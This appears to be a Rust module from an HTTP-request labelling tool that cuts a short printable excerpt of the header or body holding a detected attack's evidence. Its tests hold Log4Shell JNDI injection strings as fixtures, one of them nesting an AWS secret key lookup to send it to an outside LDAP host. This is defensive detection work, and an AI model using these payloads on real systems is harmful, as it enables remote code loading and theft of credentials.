//! The header or the body that has the evidence of a label, if the first line of a request has
//! none: lists show method and target anyway.
//!
//! In: a request and its labels. Out: one printable line for lists.

use std::ops::Range;

use forever200_identify::{Category, Label, http};
use serde::Serialize;

use crate::bytes::printable;

/// Longest excerpt with the name of its header, and longest name, in characters.
const MAX_CHARS: usize = 80;
const MAX_NAME_CHARS: usize = 24;
/// Bytes before the evidence that are shown with it.
const MAX_BEFORE_BYTES: usize = 12;

/// The evidence of a label, with a few bytes before it and what follows.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Excerpt {
    /// The name of a header, or `body`.
    pub place: String,
    /// The printable text of this place.
    pub text: String,
}

impl Excerpt {
    /// Returns the longest evidence of the first label that is after the first line; `None` where
    /// there is none, and for ordinary requests.
    #[must_use]
    pub fn find(raw: &[u8], http: &http::Request<'_>, labels: &[Label]) -> Option<Self> {
        let label = labels.first()?;
        if label.signature.category == Category::Ordinary {
            return None;
        }
        let first_line = place(raw, http.target)
            .end
            .max(place(raw, http.version).end);
        let behind = label
            .evidence
            .iter()
            .filter(|range| range.start >= first_line && range.end <= raw.len());
        // `max_by_key` returns the last of equal ones: reversed, this is the first.
        let evidence = behind.rev().max_by_key(|range| range.len())?;
        Self::around(raw, http, evidence)
    }

    fn around(raw: &[u8], http: &http::Request<'_>, evidence: &Range<usize>) -> Option<Self> {
        let body = place(raw, http.behind_head);
        if body.contains(&evidence.start) {
            return Some(Self::cut(raw, "body".to_owned(), &body, evidence.start));
        }
        let holds = |header: &&http::Header<'_>| {
            let (name, value) = (place(raw, header.name), place(raw, header.value));
            (name.start..name.end.max(value.end)).contains(&evidence.start)
        };
        let header = http.headers.iter().find(holds)?;
        let name = printable::line(header.name, MAX_NAME_CHARS);
        let value = place(raw, header.value);
        Some(Self::cut(raw, name, &value, evidence.start))
    }

    /// Cuts the excerpt out of `whole`. The evidence begins at `at`, which may be before `whole`.
    fn cut(raw: &[u8], place: String, whole: &Range<usize>, at: usize) -> Self {
        let is_near = at.saturating_sub(whole.start) <= MAX_BEFORE_BYTES;
        let mut start = if is_near {
            whole.start
        } else {
            at - MAX_BEFORE_BYTES
        };
        // Do not begin within a character of UTF-8.
        while start < at && raw.get(start).is_some_and(|byte| byte & 0xc0 == 0x80) {
            start += 1;
        }
        let cut = if is_near { "" } else { "…" };
        let taken = cut.chars().count() + place.chars().count();
        let room = MAX_CHARS.saturating_sub(taken);
        let shown = raw.get(start..whole.end).unwrap_or_default();
        let text = format!("{cut}{}", printable::line(shown, room));
        Self { place, text }
    }
}

/// Returns the range of the slice `part` in the raw bytes, or 0..0 where it is empty.
fn place(raw: &[u8], part: &[u8]) -> Range<usize> {
    if part.is_empty() {
        return 0..0;
    }
    let start = (part.as_ptr() as usize).wrapping_sub(raw.as_ptr() as usize);
    start..start.saturating_add(part.len())
}

#[cfg(test)]
mod tests {
    use crate::reader::entry::tests::{entry, record};

    fn excerpt(raw: &[u8]) -> Option<String> {
        let excerpt = entry(record(raw)).excerpt?;
        let line = format!("{}: {}", excerpt.place, excerpt.text);
        assert!(line.chars().count() <= 82, "{line}");
        Some(line)
    }

    #[test]
    fn a_header_with_evidence_is_shown() {
        let log4shell =
            b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: ${jndi:ldap://203.0.113.5:1389/a}\r\n\r\n";
        assert_eq!(
            excerpt(log4shell).as_deref(),
            Some("User-Agent: ${jndi:ldap://203.0.113.5:1389/a}")
        );
        let far = b"GET / HTTP/1.1\r\nCookie: session=0123456789; name=\xc3\xbc${jndi:ldap://203.0.113.5/${env:AWS_SECRET_ACCESS_KEY}/and/more/of/it}\r\n\r\n";
        assert_eq!(
            excerpt(far).as_deref(),
            Some(
                "Cookie: …789; name=ü${jndi:ldap://203.0.113.5/${env:AWS_SECRET_ACCESS_KEY}/and/mo…"
            )
        );
    }

    #[test]
    fn a_body_with_evidence_is_shown() {
        let raw = b"POST /x HTTP/1.1\r\nContent-Length: 40\r\n\r\nname=a\0&user=${jndi:rmi://203.0.113.5/a}";
        assert_eq!(
            excerpt(raw).as_deref(),
            Some(r"body: …ame=a\x00&user=${jndi:rmi://203.0.113.5/a}")
        );
    }

    #[test]
    fn what_the_row_shows_is_not_shown_again() {
        for raw in [
            &b"GET /?x=${jndi:ldap://203.0.113.5/a} HTTP/1.1\r\nHost: x\r\n\r\n"[..],
            b"GET / HTTP/1.1\r\nUser-Agent: curl/8.1\r\n\r\n",
            b"GET / HTTP/1.1\r\n\r\n",
            b"\x16\x03\x01\x00\x31\x01\x00\x00\x2d\x03\x03",
            b"",
        ] {
            assert_eq!(excerpt(raw), None);
        }
    }
}
